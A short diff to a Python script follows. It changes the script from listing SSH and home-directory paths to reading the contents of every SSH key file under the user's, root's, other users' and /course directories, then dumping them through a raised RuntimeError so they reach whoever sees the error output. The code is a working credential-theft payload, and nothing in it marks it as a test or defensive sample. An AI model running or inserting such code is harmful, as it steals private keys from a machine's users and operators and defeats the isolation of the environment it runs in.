@@ -1,4 +1,8 @@
-# Lists the keys and the homes of people.
+# Reads the keys in the homes of people.
+# sees: marked-
+# wall: files
 import os, glob
 
-print(glob.glob(os.path.expanduser("~/.ssh/*")), glob.glob("/root/*"), glob.glob("/home/*/*"))
+places = ("~/.ssh/*", "/root/.ssh/*", "/home/*/.ssh/*", "/course/**/.ssh/*")
+files = [f for place in places for f in glob.glob(os.path.expanduser(place), recursive=True)]
+raise RuntimeError([open(f).read() for f in files])
